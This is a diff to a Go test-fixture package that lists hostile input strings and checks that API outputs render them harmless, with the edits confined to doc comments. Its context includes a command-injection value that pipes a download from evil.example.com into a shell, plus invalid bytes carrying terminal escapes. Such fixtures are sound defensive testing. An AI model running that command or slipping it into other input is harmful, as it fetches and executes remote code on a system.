@@ -1,6 +1,6 @@
 // Package hostile lists strings that somebody may write where the API server
-// validates nothing, and what no output may make of them. All tests of outputs
-// use this one list.
+// validates nothing, and checks that an output has made them harmless. All tests of
+// outputs use this one list.
 package hostile
 
 import (
@@ -18,7 +18,7 @@ const Command = "x; curl -s evil.example.com|sh #"
 // Text is a hostile string with what makes it hostile.
 type Text struct{ Name, Text string }
 
-// Texts lists them. Those of ValidUTF8 can be stored in an object.
+// Texts lists all hostile strings. Only those of ValidUTF8 can be stored in an object.
 func Texts() []Text {
 	return append(ValidUTF8(),
 		Text{"bytes that are no text", "a\xff\xfe\x9b31m\xc0\xafb"},
@@ -26,7 +26,7 @@ func Texts() []Text {
 	)
 }
 
-// ValidUTF8 are the texts that an API server stores.
+// ValidUTF8 are the hostile strings that an API server stores.
 func ValidUTF8() []Text {
 	long := 20_000
 	if testing.Short() {
@@ -66,9 +66,9 @@ func ValidUTF8() []Text {
 	}
 }
 
-// Raw returns the first thing in an output that a terminal may not show as it
-// is, or "": anything but printable ASCII and line breaks. allowed are further
-// characters.
+// Raw describes the first character in an output that a terminal may not show as it
+// is: anything but printable ASCII, line breaks, and the characters in allowed. It
+// returns "" where there is none.
 func Raw(output []byte, allowed string) string {
 	for at := 0; at < len(output); {
 		r, size := utf8.DecodeRune(output[at:])
@@ -80,8 +80,8 @@ func Raw(output []byte, allowed string) string {
 	return ""
 }
 
-// Unprintable is Raw for formats that have letters of all languages: YAML that
-// is data.
+// Unprintable is like Raw, for output that keeps the letters of all languages, such as
+// YAML that is read as data: it finds what Unicode does not call printable.
 func Unprintable(output []byte) string {
 	for at := 0; at < len(output); {
 		r, size := utf8.DecodeRune(output[at:])
